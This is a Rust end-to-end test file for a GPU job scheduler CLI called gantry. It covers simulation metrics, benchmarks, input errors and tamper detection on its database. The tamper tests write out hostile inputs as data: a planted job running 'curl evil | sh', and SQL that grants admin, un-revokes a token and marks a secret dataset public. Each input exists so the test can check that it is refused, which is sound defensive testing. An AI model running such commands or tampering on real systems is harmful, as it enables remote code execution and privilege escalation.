//! The `gantry` binary: commands, output contracts and errors on bad input.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::support::{gantry, gantry_with, language_capped_policy, repo, text};

/// Runs `gantry` with `args` in `dir`, which must succeed printing JSON: (the JSON, stdout).
fn json_of(args: &[&str], dir: &Path) -> (serde_json::Value, String) {
    let out = gantry(args, dir);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    (serde_json::from_str(&stdout).unwrap(), stdout)
}

#[test]
fn simulate_json_prints_the_metric_keys_and_plots() {
    let cache = tempfile::tempdir().unwrap();
    let svg = cache.path().join("sim.svg");
    let args = ["simulate", "--jobs", "300", "--json", "--plot"];
    let (v, stdout) = json_of(
        &[&args[..], &[svg.to_str().unwrap()]].concat(),
        cache.path(),
    );
    for key in [
        "jct_mean_s",
        "jct_p99_s",
        "wait_mean_s",
        "wait_p99_s",
        "utilization",
        "goodput",
        "makespan_s",
        "fairness",
        "fair_share_deficit",
        "jobs_completed",
        "jobs_unfinished",
        "jobs_rejected",
    ] {
        assert!(v[key].is_number(), "{key} missing in {stdout}");
    }
    assert_eq!(v["jobs_completed"], 300);
    let u = v["utilization"].as_f64().unwrap();
    assert!(u > 0.0 && u <= 1.0);
    let plot = std::fs::read_to_string(&svg).unwrap();
    assert!(plot.starts_with("<svg") && plot.contains("queued jobs"));
}

#[test]
fn trace_generate_then_simulate_every_plugin() {
    let dir = tempfile::tempdir().unwrap();
    let trace = dir.path().join("t.csv");
    let out = gantry(
        &[
            "trace",
            "generate",
            "--jobs",
            "150",
            "--seed",
            "9",
            "-o",
            trace.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(out.status.success(), "{}", text(&out).1);
    for plugin in ["binpack", "spread", "topology", "fairshare"] {
        let out = gantry(
            &[
                "simulate",
                "--trace",
                trace.to_str().unwrap(),
                "--plugin",
                plugin,
                "--json",
            ],
            dir.path(),
        );
        let (stdout, stderr) = text(&out);
        assert!(out.status.success(), "{plugin}: {stderr}");
        let v: serde_json::Value = serde_json::from_str(&stdout).unwrap();
        assert_eq!(v["jobs_completed"], 150, "{plugin}: {stdout}");
        assert_eq!(v["plugin_faults"], 0, "{plugin}: {stdout}");
    }
}

#[test]
fn schedule_prints_placements_as_table_and_json() {
    let dir = tempfile::tempdir().unwrap();
    let out = gantry(
        &["schedule", "--jobs", "host/assets/example-jobs.toml"],
        dir.path(),
    );
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stdout.contains("llm-pretrain") && stdout.contains("decided by binpack"),
        "{stdout}"
    );
    let out = gantry(
        &[
            "schedule",
            "--jobs",
            "host/assets/example-jobs.toml",
            "--plugin",
            "topology",
            "--json",
        ],
        dir.path(),
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decided_by"], "topology");
    assert_eq!(v["placements"].as_array().unwrap().len(), 4);
}

#[test]
fn bench_schedule_json_has_the_contract_keys() {
    let dir = tempfile::tempdir().unwrap();
    let (v, stdout) = json_of(
        &[
            "bench",
            "schedule",
            "--racks",
            "2",
            "--jobs",
            "300",
            "--iterations",
            "2",
            "--json",
        ],
        dir.path(),
    );
    for key in [
        "wasm_ms",
        "native_ms",
        "ratio",
        "placements",
        "fresh_instance_us",
        "trivial_call_us",
    ] {
        assert!(v[key].is_number(), "{key} missing in {stdout}");
    }
}

#[test]
fn bench_jobs_json_has_the_contract_keys() {
    if !std::path::Path::new("/usr/bin/perl").exists() {
        eprintln!("skipped: the benchmark runs perl");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (v, stdout) = json_of(
        &["bench", "jobs", "--runs", "1", "--calls", "1000", "--json"],
        dir.path(),
    );
    for key in ["start_to_end_ms", "start_to_end_all_ms"] {
        assert!(v[key].as_f64().is_some_and(|x| x > 0.0), "{key}: {stdout}");
    }
    for key in ["filtered_ns", "all_ns"] {
        let x = v["getppid"][key].as_f64();
        assert!(x.is_some_and(|x| x > 0.0), "getppid.{key}: {stdout}");
    }
    assert!(v["getppid"]["added_ns"].is_number(), "{stdout}");
    assert_eq!(v["calls_per_run"], 1000, "{stdout}");
    assert!(v["cpu"].as_str().is_some_and(|c| !c.is_empty()), "{stdout}");
}

#[test]
fn bench_policy_json_has_the_contract_keys() {
    let dir = tempfile::tempdir().unwrap();
    let (v, stdout) = json_of(
        &[
            "bench",
            "policy",
            "--decisions",
            "50",
            "--threads",
            "2",
            "--seconds",
            "0.2",
            "--json",
        ],
        dir.path(),
    );
    for side in ["wasm", "native"] {
        for key in ["p50_us", "p99_us", "decisions_per_s"] {
            let x = v[side][key].as_f64();
            assert!(
                x.is_some_and(|x| x > 0.0),
                "{side}.{key} missing in {stdout}"
            );
        }
    }
    assert!(v["ratio"].as_f64().is_some_and(|r| r > 0.0), "{stdout}");
    // The run checks that both sides decide alike; the requests must exercise both outcomes.
    let allowed = v["allowed_share"].as_f64().unwrap();
    assert!(allowed > 0.05 && allowed < 0.95, "{stdout}");
}

/// Bad input: a clear error naming file, line and field, exit code 1, no output written.
#[test]
fn bad_files_fail_cleanly() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let cluster = d.join("cluster.toml");
    std::fs::write(
        &cluster,
        "[[nodes]]\nname = \"n0\"\nrack = \"r0\"\ngpus = { count = 8, model = \"H100\", memory_mib = \"lots\" }\n",
    )
    .unwrap();
    let jobs = d.join("jobs.json");
    std::fs::write(&jobs, "{\"jobs\": [{\"id\": \"a\", \"tenant\": \"vision\", \"gpus\": 0, \"memory_per_gpu_mib\": 1, \"est_runtime_s\": 5}]}").unwrap();
    let trace = d.join("t.csv");
    std::fs::write(
        &trace,
        "submit_time_s,duration_s,gpus,memory_mib,tenant\n0,60,1,1000,vision\n5,60,x,1000,vision\n",
    )
    .unwrap();
    let plot = d.join("never.svg");
    let cases: Vec<(Vec<String>, Vec<String>)> = vec![
        (
            vec![
                "schedule".into(),
                "--cluster".into(),
                cluster.display().to_string(),
                "--jobs".into(),
                "host/assets/example-jobs.toml".into(),
            ],
            vec![format!("{}:4:", cluster.display()), "invalid type".into()],
        ),
        (
            vec![
                "schedule".into(),
                "--jobs".into(),
                jobs.display().to_string(),
            ],
            vec![
                format!("{}:1:", jobs.display()),
                "jobs[0] (`a`).gpus: must be at least 1".into(),
            ],
        ),
        (
            vec![
                "simulate".into(),
                "--trace".into(),
                trace.display().to_string(),
                "--plot".into(),
                plot.display().to_string(),
            ],
            vec![format!("{}:3:", trace.display()), "column `gpus`".into()],
        ),
        (
            vec![
                "schedule".into(),
                "--jobs".into(),
                "host/assets/example-jobs.toml".into(),
                "--plugin".into(),
                d.join("nope").display().to_string(),
            ],
            vec!["cannot read".into(), "nope".into()],
        ),
    ];
    for (args, wants) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = gantry(&args, d);
        let (stdout, stderr) = text(&out);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(stdout.is_empty(), "{args:?} printed {stdout}");
        for want in wants {
            assert!(
                stderr.contains(&want),
                "{args:?}: want {want:?} in {stderr}"
            );
        }
    }
    assert!(!plot.exists(), "nothing half-written");
    let _ = repo();
}

#[test]
fn guest_output_becomes_capped_log_events_tagged_with_the_plugin() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = crate::support::hostile(dir.path(), "print-flood", "deadline_ms = 20000");
    // Signed and trusted, as a plugin from disk must be.
    let (key, public) = crate::support::plugin_key(dir.path(), dir.path());
    crate::support::sign_plugin(&manifest, &key, dir.path());
    let out = gantry(
        &[
            "schedule",
            "--jobs",
            "host/assets/example-jobs.toml",
            "--plugin",
            manifest.to_str().unwrap(),
            "--trust",
            &public,
            "-v",
        ],
        dir.path(),
    );
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stdout.contains("decided by hostile-print-flood"),
        "{stdout}"
    );
    let guest_lines: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("gantry::guest"))
        .collect();
    assert!(
        guest_lines.iter().any(|l| l.contains("line 0 of a flood")
            && l.contains("plugin=\"hostile-print-flood\"")
            && l.contains("stream=\"stdout\"")),
        "{stderr}"
    );
    assert!(stderr.contains("dropped"), "the cap is reported");
    // 64 KiB of ~40-byte lines, not 200,000 of them.
    assert!(
        guest_lines.len() < 3000,
        "{} guest lines",
        guest_lines.len()
    );
}

#[test]
fn demo_runs_end_to_end_and_cleans_up() {
    let out = gantry(&["demo"], &crate::support::shared_cache());
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    for want in [
        "REFUSED: 403 Forbidden: job.submit denied by policy",
        "user lee is not a member of tenant vision",
        "standardize: 200000 records -> 200000 x 8 features",
        "vision-train succeeded: test accuracy",
        "wrote job vision-train's model (step ",
        "vision-eval (a command job) succeeded: it printed \"vision-eval sees CUDA_VISIBLE_DEVICES=",
        "32 GPUs in service",
        "(training on node node-00",
        "(emulated GPUs 0,1,2,3,4,5,6,7: one CPU replica each)",
        "(handed to node node-00",
        "audit log verified",
    ] {
        assert!(stdout.contains(want), "`{want}` missing in\n{stdout}");
    }
    // One refusal; the allowed ones include however many status polls the demo made.
    let decisions = stdout
        .lines()
        .find_map(|l| l.strip_prefix("policy decisions (allowed / denied)"))
        .unwrap_or_else(|| panic!("no decision count in\n{stdout}"));
    let (allowed, denied) = decisions.trim().split_once(" / ").unwrap();
    assert_eq!(denied, "1", "{decisions}");
    assert!(allowed.parse::<u32>().unwrap() >= 5, "{decisions}");
    let dir = stdout
        .lines()
        .find_map(|l| {
            l.trim()
                .split(':')
                .next()
                .filter(|p| p.contains("gantry-demo-"))
        })
        .unwrap();
    assert!(
        !std::path::Path::new(dir).exists(),
        "the demo's data directory is removed"
    );
}

/// The README's first-fit plugin (under "Writing a scheduler plugin"), kept identical to the
/// README by `readme_first_fit_example_is_the_tested_file`, so its behaviour is tested here.
#[path = "readme_first_fit.rs"]
mod readme_first_fit;

/// The README's code block that starts with `start`.
fn readme_block(start: &str) -> String {
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let from = readme
        .find(&format!("```rust\n{start}"))
        .unwrap_or_else(|| panic!("no README block starting with {start:?}"))
        + "```rust\n".len();
    let to = from + readme[from..].find("```").unwrap();
    readme[from..to].to_string()
}

#[test]
fn readme_first_fit_example_is_the_tested_file() {
    let file = std::fs::read_to_string(repo().join("tests/e2e/readme_first_fit.rs")).unwrap();
    assert_eq!(
        readme_block("use gantry_plugin_sdk::fit"),
        file,
        "the README's first-fit example and tests/e2e/readme_first_fit.rs must stay identical"
    );
}

/// The review's finding: the README's first-fit example only ever looked for one node, so jobs
/// larger than a node were never placed (191 of 2,000 in the default simulation).
#[test]
fn readme_first_fit_places_jobs_larger_than_a_node() {
    use gantry_plugin_sdk::sched::Strategy;
    use gantry_plugin_sdk::testing::{cluster, job, jobs};
    use readme_first_fit::FirstFit;

    // Two racks of two 8-GPU nodes.
    let snapshot = cluster(2, 2, 8);
    let placed =
        FirstFit::schedule(snapshot.clone(), jobs([job(0, 16), job(0, 24), job(1, 1)])).unwrap();
    let sizes: Vec<(u32, usize)> = placed.iter().map(|p| (p.job, p.gpus.len())).collect();
    assert_eq!(sizes, [(0, 16), (2, 1)], "24 no longer fits beside 16");
    let placed = FirstFit::schedule(snapshot, jobs([job(0, 32)])).unwrap();
    assert_eq!(placed[0].gpus.len(), 32, "the whole cluster");
}

/// Three jobs on the default cluster: `language`'s 32-GPU job (row 1) can run on the cluster
/// but the policy refuses it every time; the others run 100 s each. The run ends at 150 s.
const STARVED_TRACE: &str = "submit_time_s,duration_s,gpus,memory_mib,tenant\n\
                             0,100,8,1000,vision\n\
                             0,100,32,1000,language\n\
                             50,100,8,1000,language\n";

/// A directory with [`STARVED_TRACE`] and the bundle of [`language_capped_policy`].
struct Starved {
    dir: tempfile::TempDir,
    trace: PathBuf,
    bundle: PathBuf,
}

impl Starved {
    fn new() -> Starved {
        let dir = tempfile::tempdir().unwrap();
        let bundle = language_capped_policy(dir.path());
        let trace = dir.path().join("t.csv");
        std::fs::write(&trace, STARVED_TRACE).unwrap();
        Starved { dir, trace, bundle }
    }

    /// `gantry simulate` of the trace under the bundle, with `extra` arguments after those.
    fn simulate(&self, extra: &[&str]) -> Output {
        let (trace, bundle) = (self.trace.to_str().unwrap(), self.bundle.to_str().unwrap());
        let args = ["simulate", "--trace", trace, "--policy", bundle];
        gantry(&[&args[..], extra].concat(), self.dir.path())
    }
}

/// The review's finding: wait and JCT averaged only over completed jobs, so a run that starved
/// jobs looked best. Unfinished jobs now count, censored at the end of the run.
#[test]
fn simulate_counts_unfinished_jobs_in_wait_and_jct() {
    let out = Starved::new().simulate(&["--json", "--allow-unfinished"]);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    let v: serde_json::Value = serde_json::from_str(&stdout).expect(&stderr);
    assert_eq!(v["jobs_completed"], 2, "{v}");
    assert_eq!(v["jobs_unfinished"], 1, "{v}");
    // Waits 0, 150 (censored) and 0; JCTs 100, 150 (censored) and 100.
    assert_eq!(v["wait_mean_s"], 50.0, "{v}");
    assert!(
        (v["jct_mean_s"].as_f64().unwrap() - 350.0 / 3.0).abs() < 1e-9,
        "{v}"
    );
    assert_eq!(v["wait_p99_s"], 150.0, "{v}");
}

/// The review's finding: a simulation in which jobs that could run never did exited 0. It now
/// fails, naming them, unless `--allow-unfinished` says that is expected.
#[test]
fn simulate_exits_non_zero_when_jobs_that_could_run_never_did() {
    let starved = Starved::new();
    let out = starved.simulate(&[]);
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("1 job that could run never finished") && stderr.contains("job-1"),
        "{stderr}"
    );
    assert!(stderr.contains("--allow-unfinished"), "{stderr}");
    assert!(
        stdout.contains("jobs unfinished"),
        "the results still print: {stdout}"
    );

    let out = starved.simulate(&["--allow-unfinished"]);
    assert!(out.status.success(), "{}", text(&out).1);
}

#[test]
fn simulate_writes_one_row_per_job() {
    let starved = Starved::new();
    for name in ["jobs.csv", "jobs.json"] {
        let path = starved.dir.path().join(name);
        let out = starved.simulate(&["--allow-unfinished", "--jobs-out", path.to_str().unwrap()]);
        assert!(out.status.success(), "{}", text(&out).1);
        assert!(text(&out).0.contains("per-job results written to"));
        let written = std::fs::read_to_string(&path).unwrap();
        let rows: Vec<serde_json::Value> = if name.ends_with(".json") {
            serde_json::from_str(&written).unwrap()
        } else {
            let mut reader = csv::Reader::from_reader(written.as_bytes());
            let header = reader.headers().unwrap().clone();
            reader
                .records()
                .map(|r| {
                    let r = r.unwrap();
                    serde_json::Value::Object(
                        header
                            .iter()
                            .zip(r.iter())
                            .map(|(k, v)| (k.to_string(), serde_json::json!(v)))
                            .collect(),
                    )
                })
                .collect()
        };
        assert_eq!(rows.len(), 3, "{written}");
        let field = |row: usize, key: &str| rows[row][key].to_string().replace('"', "");
        assert_eq!(field(1, "id"), "job-1");
        assert_eq!(field(1, "tenant"), "language");
        assert_eq!(field(1, "state"), "unfinished", "{written}");
        assert_eq!(field(1, "censored"), "true");
        assert_eq!(field(1, "wait_s").parse::<f64>().unwrap(), 150.0);
        assert_eq!(field(2, "state"), "completed");
        assert_eq!(field(2, "first_start_s").parse::<f64>().unwrap(), 50.0);
        assert_eq!(field(2, "jct_s").parse::<f64>().unwrap(), 100.0);
    }
}

/// Found by asking for a billion synthetic jobs, a bench cluster of 2^32 racks or 10^11 rows to
/// preprocess: the command allocated all of it at once (56 GB, 103 GB, 16 TB) and aborted.
/// Every count flag that sizes an allocation is bounded, refused naming the flag.
#[test]
fn sizes_of_synthetic_traces_and_bench_clusters_are_bounded_before_allocation() {
    let dir = tempfile::tempdir().unwrap();
    for (args, code, want) in [
        (
            &["simulate", "--jobs", "1000000000"][..],
            2,
            "'--jobs <JOBS>': 1000000000 is not in 1..=10000000",
        ),
        (
            &["trace", "generate", "--jobs", "0", "--out", "t.csv"][..],
            2,
            "is not in 1..=10000000",
        ),
        (
            &["bench", "schedule", "--racks", "4294967295"][..],
            1,
            "make 274877906880 GPUs: from 1 to 1048576 GPUs",
        ),
        (
            &["bench", "schedule", "--jobs", "20000000"][..],
            2,
            "20000000 is not in 1..=10000000",
        ),
        (
            &["bench", "preprocess", "--rows", "100000000000"][..],
            2,
            "100000000000 is not in 1..=10000000",
        ),
    ] {
        let out = gantry(args, dir.path());
        let (_, stderr) = text(&out);
        assert_eq!(out.status.code(), Some(code), "{args:?}: {stderr}");
        assert!(stderr.contains(want), "{args:?}: {stderr}");
    }
    assert!(!dir.path().join("t.csv").exists());
}

/// Found by reading the data directory as a thief would: its master key sat beside the objects
/// it unwraps. `gantry init` under `GANTRY_KEY_FILE` seals it under a key file kept apart;
/// every command (and `gantry up`) then needs that file, a rotation's new key is sealed too, and
/// `gantry key seal` seals a directory made without one.
#[test]
fn a_data_directory_sealed_under_a_key_file_opens_only_with_it() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let kek = key_file(dir.path(), "5a");
    let data = dir.path().join("data");
    let d = data.to_str().unwrap();
    let sealed = [("GANTRY_KEY_FILE", kek.as_path())];
    ok(gantry_with(&["init", "--data-dir", d], &cache, &sealed));
    let file = dir.path().join("secret.csv");
    std::fs::write(&file, "a,b\n1,2\n").unwrap();
    let put = ["store", "put", file.to_str().unwrap(), "--data-dir", d];
    ok(gantry_with(&put, &cache, &sealed));
    let verify = ["store", "verify", "--data-dir", d];
    assert!(ok(gantry_with(&verify, &cache, &sealed)).contains("1 object(s) authenticated"));
    ok(gantry_with(
        &["key", "rotate", "--data-dir", d],
        &cache,
        &sealed,
    ));
    ok(gantry_with(&verify, &cache, &sealed));
    for master in std::fs::read_dir(data.join("keys")).unwrap().flatten() {
        if master.file_name().to_string_lossy().starts_with("master-") {
            let bytes = std::fs::read(master.path()).unwrap();
            assert!(bytes.starts_with(b"GSK1"), "{}", master.path().display());
        }
    }
    // Without the key file: nothing opens, and the error says what is missing.
    for args in [
        &verify[..],
        &["up", "--data-dir", d, "--listen", "127.0.0.1:0"][..],
    ] {
        let out = gantry(args, &cache);
        let (_, e) = text(&out);
        assert!(!out.status.success(), "{args:?}");
        assert!(e.contains("GANTRY_KEY_FILE"), "{args:?}: {e}");
    }
    // A directory made without one is sealed in place, and then needs it.
    let plain = dir.path().join("plain");
    let p = plain.to_str().unwrap();
    ok(gantry(&["init", "--data-dir", p], &cache));
    let verify = ["store", "verify", "--data-dir", p];
    let (_, e) = text(&gantry_with(&verify, &cache, &sealed));
    assert!(e.contains("an unsealed key"), "{e}");
    assert!(
        ok(gantry_with(
            &["key", "seal", "--data-dir", p],
            &cache,
            &sealed
        ))
        .contains("2 key(s) sealed")
    );
    ok(gantry_with(&verify, &cache, &sealed));
    assert!(!gantry(&verify, &cache).status.success());
}

/// Found by reading the data directory as a writer of its disk would: under a key file the
/// master keys were sealed, but `gantry.db` was not, so whoever could write it (without the key
/// file) made a user an admin, planted a token of their own, or took back a revocation. Each
/// user and token row now carries a MAC under a key derived from the key file: `gantry key
/// seal` authenticates the rows a directory has, and a row changed outside Gantry is refused,
/// naming it, by `gantry up`, `gantry db check` and `gantry user tokens`.
#[test]
fn a_user_or_token_row_changed_outside_gantry_is_refused_under_a_key_file() {
    // Made without a key file, with a user and a token; then sealed, its rows authenticated.
    let (dir, cache, data) = unsealed_with_ada();
    let kek = key_file(dir.path(), "7c");
    let sealed = [("GANTRY_KEY_FILE", kek.as_path())];
    let d = data.to_str().unwrap();
    let add = [&ADD_ADA[..], &["--data-dir", d]].concat();
    // The user and their token (and the settings).
    seal_counting(&data, &cache, &kek, 2);
    let check = ["db", "check", "--data-dir", d];
    ok(gantry_with(&check, &cache, &sealed));
    let tokens = ["user", "tokens", "--data-dir", d];
    ok(gantry_with(&tokens, &cache, &sealed));
    // Written under the key file, a new token and a revocation are authenticated too.
    ok(gantry_with(&add, &cache, &sealed));
    ok(gantry_with(
        &["user", "revoke", "ada", "--data-dir", d],
        &cache,
        &sealed,
    ));
    ok(gantry_with(&check, &cache, &sealed));

    let db = || rusqlite::Connection::open(gantry_daemon::db_path(&data)).unwrap();
    let up = ["up", "--data-dir", d, "--listen", "127.0.0.1:0"];
    // `gantry user tokens` reads the tokens alone.
    let refused = |sql: &str, row: &str| {
        db().execute_batch(sql).unwrap();
        let commands = match row.starts_with("table tokens") {
            true => vec![&check[..], &tokens[..], &up[..]],
            false => vec![&check[..], &up[..]],
        };
        for args in commands {
            let e = refused_naming(args, &cache, &kek, row, sql);
            if args != tokens {
                assert!(e.contains("`gantry key seal`"), "what to do: {e}");
            }
        }
    };
    let roles: String = db()
        .query_row("SELECT roles FROM users WHERE name = 'ada'", [], |r| {
            r.get(0)
        })
        .unwrap();
    refused(
        r#"UPDATE users SET roles = '["admin"]' WHERE name = 'ada'"#,
        "table users, row ada",
    );
    // Put back as it was, the row verifies again: its content is what is authenticated.
    db().execute("UPDATE users SET roles = ?1 WHERE name = 'ada'", [&roles])
        .unwrap();
    ok(gantry_with(&check, &cache, &sealed));
    refused("UPDATE tokens SET revoked_at = NULL", "table tokens, row ");
    db().execute_batch("UPDATE tokens SET revoked_at = 1, mac = NULL")
        .unwrap();
    refused("SELECT 1", "table tokens, row ");
    // Without the key file nothing opens at all (the master keys are sealed).
    assert!(!gantry(&check, &cache).status.success());
}

/// Found by reading the data directory as a writer of its disk would, after account rows were
/// authenticated: the `jobs` and `datasets` rows were not, so whoever could write `gantry.db`
/// (without the key file) planted a pending job running a program of theirs as a tenant's job
/// (with the tenant's datasets), changed a queued job's program, or showed a secret dataset as
/// public. Those rows carry a MAC now: rows of an earlier version are authenticated by `gantry
/// key seal`, and one planted or changed is refused, naming it, by `gantry up` and `gantry db
/// check`.
#[test]
fn a_job_or_dataset_row_planted_outside_gantry_is_refused_under_a_key_file() {
    let (dir, cache, data) = unsealed_with_ada();
    let kek = key_file(dir.path(), "5e");
    let sealed = [("GANTRY_KEY_FILE", kek.as_path())];
    let d = data.to_str().unwrap();
    let db = || rusqlite::Connection::open(gantry_daemon::db_path(&data)).unwrap();
    let job = |id: &str, argv: &str| {
        format!(
            r#"INSERT INTO jobs(id, tenant, owner, gpus, memory_per_gpu_mib, est_runtime_s, state,
                 submitted_at, seq, command)
               VALUES ('vision/{id}', 'vision', 'ada', 1, 1000, 1, 'pending', 1.5,
                 (SELECT COALESCE(MAX(seq), 0) + 1 FROM jobs), '{{"argv":{argv}}}')"#
        )
    };
    // Rows an earlier version wrote (no MACs), authenticated where the directory is trusted.
    db().execute_batch(&job("queued", r#"["sh","-c","true"]"#))
        .unwrap();
    let store = gantry::storage::Store::open_exclusive(&data, "a test").unwrap();
    let object = store.put_bytes(b"x,y\n1,2\n").unwrap();
    let weights = store.put_bytes(b"the queued job's weights").unwrap();
    drop(store);
    db().execute(
        "INSERT INTO datasets(name, tenant, classification, object, bytes, owner, created_at)
         VALUES ('vision/scans.csv', 'vision', 'secret', ?1, 8, 'ada', 1.5)",
        [&object],
    )
    .unwrap();
    db().execute(
        "INSERT INTO checkpoints(job, step, object) VALUES ('vision/queued', 3, ?1)",
        [&weights],
    )
    .unwrap();
    // A user and their token, a job, a dataset, a checkpoint (and the settings).
    seal_counting(&data, &cache, &kek, 5);
    let check = ["db", "check", "--data-dir", d];
    ok(gantry_with(&check, &cache, &sealed));

    let up = ["up", "--data-dir", d, "--listen", "127.0.0.1:0"];
    let refused = |sql: &str, row: &str| {
        db().execute_batch(sql).unwrap();
        for args in [&check[..], &up[..]] {
            refused_naming(args, &cache, &kek, row, sql);
        }
    };
    refused(
        &job("planted", r#"["sh","-c","curl evil | sh"]"#),
        "table jobs, row vision/planted",
    );
    db().execute_batch("DELETE FROM jobs WHERE id = 'vision/planted'")
        .unwrap();
    ok(gantry_with(&check, &cache, &sealed));
    refused(
        r#"UPDATE jobs SET command = '{"argv":["sh","-c","curl evil | sh"]}'"#,
        "table jobs, row vision/queued",
    );
    db().execute_batch(r#"UPDATE jobs SET command = '{"argv":["sh","-c","true"]}'"#)
        .unwrap();
    ok(gantry_with(&check, &cache, &sealed));
    refused(
        "UPDATE datasets SET classification = 'public'",
        "table datasets, row vision/scans.csv",
    );
    db().execute_batch("UPDATE datasets SET classification = 'secret'")
        .unwrap();
    ok(gantry_with(&check, &cache, &sealed));
    // Another object as the job's checkpoint (here the dataset: another tenant's weights, in
    // a directory of several).
    refused(
        &format!("UPDATE checkpoints SET object = '{object}'"),
        "table checkpoints, row vision/queued step 3",
    );
    db().execute("UPDATE checkpoints SET object = ?1", [&weights])
        .unwrap();
    ok(gantry_with(&check, &cache, &sealed));
    // A key of the writer's recorded as the one that signs the audit log: `gantry audit verify`
    // would take a log of theirs.
    refused(
        "UPDATE settings SET value = '00' WHERE key = 'audit.key'",
        "table settings, row audit.key",
    );
    let verify = ["audit", "verify", "--data-dir", d];
    refused_naming(&verify, &cache, &kek, "table settings, row audit.key", "");
}

/// Found closing the rows' authentication: a backup made before a directory's rows were
/// authenticated (by an earlier version, or before its key file) could not be restored under
/// the key file at all, its rows carrying no MAC. `gantry db restore --authenticate-rows`
/// authenticates them, as asked (as `gantry key seal` does a directory's), and says how to
/// when refused; a row whose MAC does not verify is refused all the same.
#[test]
fn a_backup_made_before_the_key_file_restores_when_its_rows_are_authenticated_as_asked() {
    let (dir, cache, data) = unsealed_with_ada();
    let kek = key_file(dir.path(), "4a");
    let sealed = [("GANTRY_KEY_FILE", kek.as_path())];
    let d = data.to_str().unwrap();
    let old = dir.path().join("old.db");
    let backup = |to: &Path, env: &[(&str, &Path)]| {
        let args = [
            "db",
            "backup",
            "--out",
            to.to_str().unwrap(),
            "--data-dir",
            d,
        ];
        ok(gantry_with(&args, &cache, env));
    };
    backup(&old, &[]);
    seal_counting(&data, &cache, &kek, 2);
    let restore = |from: &Path, adopt: bool| {
        let mut args = vec!["db", "restore", from.to_str().unwrap(), "--data-dir", d];
        if adopt {
            args.push("--authenticate-rows");
        }
        gantry_with(&args, &cache, &sealed)
    };
    let refused = restore(&old, false);
    let (_, e) = text(&refused);
    assert!(!refused.status.success());
    assert!(
        e.contains("column mac") && e.contains("--authenticate-rows"),
        "{e}"
    );
    let restored = ok(restore(&old, true));
    assert!(
        restored.contains("row(s) of the backup authenticated"),
        "{restored}"
    );
    ok(gantry_with(
        &["db", "check", "--data-dir", d],
        &cache,
        &sealed,
    ));
    // A row changed in a backup is no row without a MAC: refused, asked or not.
    let changed = dir.path().join("changed.db");
    backup(&changed, &sealed);
    let db = rusqlite::Connection::open(&changed).unwrap();
    db.execute_batch(r#"UPDATE users SET roles = '["admin"]'"#)
        .unwrap();
    drop(db);
    let refused = restore(&changed, true);
    let (_, e) = text(&refused);
    assert!(!refused.status.success());
    assert!(
        e.contains("table users, row ada") && e.contains("does not verify"),
        "{e}"
    );
}

/// `gantry user add` of `ada`, a researcher of `vision` (`--data-dir` to follow).
const ADD_ADA: [&str; 7] = [
    "user",
    "add",
    "ada",
    "--roles",
    "researcher",
    "--tenants",
    "vision",
];

/// A data directory made without a key file, with user `ada` (a researcher of `vision`) and
/// her token: (its temporary directory, the cache, the data directory).
fn unsealed_with_ada() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let data = dir.path().join("data");
    let d = data.to_str().unwrap();
    ok(gantry(&["init", "--data-dir", d], &cache));
    ok(gantry(&[&ADD_ADA[..], &["--data-dir", d]].concat(), &cache));
    (dir, cache, data)
}

/// Seals data directory `data` under key file `kek` (`gantry key seal`), which must say it
/// authenticated `rows` rows and the settings.
fn seal_counting(data: &Path, cache: &Path, kek: &Path, rows: usize) {
    let db = rusqlite::Connection::open(gantry_daemon::db_path(data)).unwrap();
    let settings: i64 = (db.query_row("SELECT COUNT(*) FROM settings", [], |r| r.get(0))).unwrap();
    let seal = ["key", "seal", "--data-dir", data.to_str().unwrap()];
    let sealing = ok(gantry_with(&seal, cache, &[("GANTRY_KEY_FILE", kek)]));
    let rows = rows + settings as usize;
    assert!(
        sealing.contains(&format!("{rows} row(s) authenticated")),
        "{sealing}"
    );
}

/// Runs `args` under key file `kek`, which must fail naming `row` and its `mac` column (after
/// `what` was done); returns what it said.
fn refused_naming(args: &[&str], cache: &Path, kek: &Path, row: &str, what: &str) -> String {
    let out = gantry_with(args, cache, &[("GANTRY_KEY_FILE", kek)]);
    let (_, e) = text(&out);
    assert!(!out.status.success(), "{what}: {args:?} went on");
    assert!(
        e.contains(row) && e.contains("column mac"),
        "{what}: {args:?}: {e}"
    );
    e
}

/// A key file in `dir` (`byte`, two hex digits, 32 times), its owner's alone.
fn key_file(dir: &Path, byte: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let kek = dir.join("kek");
    std::fs::write(&kek, byte.repeat(32)).unwrap();
    std::fs::set_permissions(&kek, std::fs::Permissions::from_mode(0o600)).unwrap();
    kek
}

/// What a command that succeeded printed; fails with its output otherwise.
fn ok(out: Output) -> String {
    let (o, e) = text(&out);
    assert!(out.status.success(), "{o}{e}");
    o
}
